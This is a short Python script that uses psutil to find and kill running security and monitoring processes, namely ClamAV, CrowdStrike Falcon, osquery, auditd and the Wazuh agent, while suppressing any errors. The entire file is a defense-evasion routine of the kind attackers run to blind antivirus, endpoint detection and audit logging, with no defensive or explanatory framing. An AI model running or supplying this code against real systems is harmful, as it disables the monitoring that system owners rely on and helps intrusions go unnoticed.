import psutil

TARGETS = {"clamd", "freshclam", "falcon-sensor", "osqueryd", "auditd", "wazuh-agentd"}

for proc in psutil.process_iter(["pid", "name"]):
    if proc.info["name"] in TARGETS:
        try:
            proc.kill()
            print("killed", proc.info)
        except psutil.Error:
            pass
